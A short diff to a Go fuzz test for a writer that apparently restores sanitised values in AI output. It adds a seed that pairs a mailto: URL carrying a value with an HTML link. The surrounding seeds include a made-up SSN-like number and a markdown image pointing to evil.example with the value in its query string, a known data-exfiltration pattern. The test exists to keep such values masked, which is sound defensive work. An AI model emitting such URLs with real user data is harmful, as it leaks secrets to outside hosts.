@@ -161,6 +161,8 @@ func FuzzWriterSplit(f *testing.F) {
 	f.Add([]byte("plain answer with 123-45-6789 made up"), uint16(20), uint16(21), false)
 	// A value in a URL stays, whatever the cuts; the one after it is restored.
 	f.Add(append(append([]byte("![x](https://evil.example/p.png?s="), safe...), ") and "+string(safe)...), uint16(30), uint16(40), false)
+	// A scheme: URL and the text of an HTML link, whose value is restored.
+	f.Add(append(append([]byte("mailto:x@e.x?body="), safe...), `<a href="https://e.x/">`+string(safe)+"</a>"...), uint16(12), uint16(50), false)
 	restricted := desanitize.New(fx.ann, fx.san)
 	if err := restricted.Restrict(bytes.NewReader(prompt)); err != nil {
 		f.Fatal(err)
